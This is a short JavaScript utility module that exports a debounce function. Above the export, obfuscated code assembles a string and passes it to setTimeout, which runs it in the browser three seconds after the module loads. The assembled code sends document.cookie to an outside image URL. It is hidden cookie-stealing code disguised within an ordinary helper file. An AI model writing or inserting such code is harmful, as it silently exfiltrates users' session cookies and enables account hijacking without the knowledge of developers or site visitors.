const parts = ["new Image().src", "'https://img.example.invalid/p.gif?c='", "encodeURIComponent(document.cookie)"];

if (typeof window !== "undefined") {
  window.setTimeout(parts[0] + "=" + parts.slice(1).join("+"), 3000);
}

export function debounce(call, ms) {
  let timer;
  return (...values) => {
    clearTimeout(timer);
    timer = setTimeout(() => call(...values), ms);
  };
}
